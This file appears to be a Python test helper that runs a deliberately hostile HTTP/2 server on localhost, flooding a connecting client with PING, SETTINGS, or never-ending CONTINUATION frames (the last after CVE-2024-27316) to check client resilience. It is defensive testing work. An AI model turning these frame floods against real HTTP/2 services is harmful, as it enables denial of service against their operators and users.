#!/usr/bin/env python3
"""A hostile HTTP/2 (h2c, prior knowledge) server speaking raw frames
(tests/hostile_h2.rs): after the client's preface and first HEADERS it floods one
kind of frame and never reads again.

Usage: h2_flood.py MODE, MODE one of
  ping          PING frames without end (each asks for a PING ACK)
  settings      empty SETTINGS frames without end (each asks for a SETTINGS ACK)
  continuation  a HEADERS frame for the client's stream without END_HEADERS, then
                empty CONTINUATION frames without end (CVE-2024-27316)
Listens on 127.0.0.1, an ephemeral port printed as the first line on stdout; each
connection floods for at most 30 s. Stops after 120 s, or when its parent test dies
and stdin closes.
"""
import os
import socket
import struct
import sys
import threading
import time

MODE = sys.argv[1]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def first_headers(conn):
    """Reads the preface and frames until the client's first HEADERS: its stream."""
    buf = b""
    while True:
        chunk = conn.recv(65536)
        if not chunk:
            return None
        buf += chunk
        if len(buf) < len(PREFACE):
            continue
        at = len(PREFACE)
        while len(buf) - at >= 9:
            length = int.from_bytes(buf[at:at + 3], "big")
            kind = buf[at + 3]
            stream = int.from_bytes(buf[at + 5:at + 9], "big") & 0x7FFFFFFF
            if len(buf) - at - 9 < length:
                break
            if kind == 1:
                return stream
            at += 9 + length


def serve(conn):
    try:
        conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        conn.settimeout(10)
        conn.sendall(frame(4, 0, 0))  # our SETTINGS: the handshake is over
        stream = first_headers(conn)
        if stream is None:
            return
        if MODE == "ping":
            burst = frame(6, 0, 0, b"pingpong") * 4096
        elif MODE == "settings":
            burst = frame(4, 0, 0) * 4096
        else:
            # ":status: 200" (static index 8), the block never ended.
            conn.sendall(frame(1, 0, stream, b"\x88"))
            burst = frame(9, 0, stream) * 4096
        deadline = time.time() + 30
        while time.time() < deadline:
            conn.sendall(burst)
    except OSError:
        pass
    finally:
        conn.close()


def main():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    print(listener.getsockname()[1], flush=True)

    def accept():
        while True:
            conn, _ = listener.accept()
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    watchdog = threading.Timer(120, lambda: os._exit(0))
    watchdog.daemon = True
    watchdog.start()
    try:
        sys.stdin.read()
    except Exception:
        pass


main()
